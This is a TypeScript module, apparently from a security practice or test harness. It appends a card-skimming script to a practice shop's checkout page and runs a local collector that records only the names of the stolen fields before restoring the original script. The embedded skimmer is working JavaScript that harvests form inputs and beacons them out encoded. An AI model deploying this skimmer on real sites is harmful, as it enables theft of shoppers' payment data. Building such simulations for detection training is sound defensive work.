import { Hono } from 'hono';
import { cors } from 'hono/cors';
import type { PracticeShop } from '../open-practice-shop.ts';
import { serveApp } from '../shop/serve-app.ts';
import { refuseOthers } from './attack-truth.ts';

export interface SkimmerTruth {
  readonly attack: 'inject-skimmer';
  readonly startedAt: Date;
  /** The script that was changed, and its SHA-256 before and after. */
  readonly script: string;
  readonly before: string;
  readonly after: string;
  /** Where stolen fields go: another port of this machine. */
  readonly collector: string;
  /** Names of the fields that arrived, one list a theft. The values are thrown away. */
  stolen(): readonly (readonly string[])[];
  /** Restores the script and closes the collector. */
  stop(): Promise<void>;
}

const skimmer = (collector: string): string => `
;(() => {
  const form = document.getElementById('checkout');
  if (!form) return;
  const take = () => {
    const found = {};
    for (const field of form.querySelectorAll('input')) if (field.value) found[field.name] = field.value;
    if (found['card-number']) navigator.sendBeacon('${collector}/px', new URLSearchParams({ d: btoa(unescape(encodeURIComponent(JSON.stringify(found)))) }));
  };
  form.addEventListener('change', take);
  form.addEventListener('submit', take);
})();
`;

function fieldsOf(encoded: string): string[] {
  const parsed: unknown = JSON.parse(Buffer.from(encoded, 'base64').toString('utf8'));
  return parsed && typeof parsed === 'object' ? Object.keys(parsed) : [];
}

/** Changes the third-party script at checkout: it now reads the card fields and sends them to another host of this machine. */
export async function injectSkimmer(shop: PracticeShop): Promise<SkimmerTruth> {
  await refuseOthers(shop);
  const thefts: string[][] = [];
  const app = new Hono();
  app.use(cors());
  app.post('/px', async (c) => {
    const { d } = await c.req.parseBody();
    if (typeof d === 'string') thefts.push(fieldsOf(d));
    return c.body(null, 204);
  });
  const collector = await serveApp(app, 0);
  const before = shop.scripts.digest();
  shop.scripts.append(skimmer(collector.url));
  return {
    attack: 'inject-skimmer',
    startedAt: new Date(),
    script: `${shop.scripts.url}/checkout-helper.js`,
    before,
    after: shop.scripts.digest(),
    collector: collector.url,
    stolen: () => thefts,
    async stop() {
      shop.scripts.restore();
      await collector.close();
    },
  };
}
